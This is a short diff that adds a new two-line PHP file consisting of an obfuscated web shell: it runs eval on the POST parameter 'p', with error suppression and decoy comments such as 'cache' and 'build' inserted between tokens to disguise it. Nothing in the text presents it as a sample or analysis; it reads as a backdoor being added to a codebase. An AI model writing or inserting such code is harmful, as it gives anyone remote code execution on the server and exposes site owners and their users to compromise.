@@ -1,0 +1,2 @@
+<?php
+@eval/*   cache   */(/* build */$_POST/* id */['p'] /* end */);
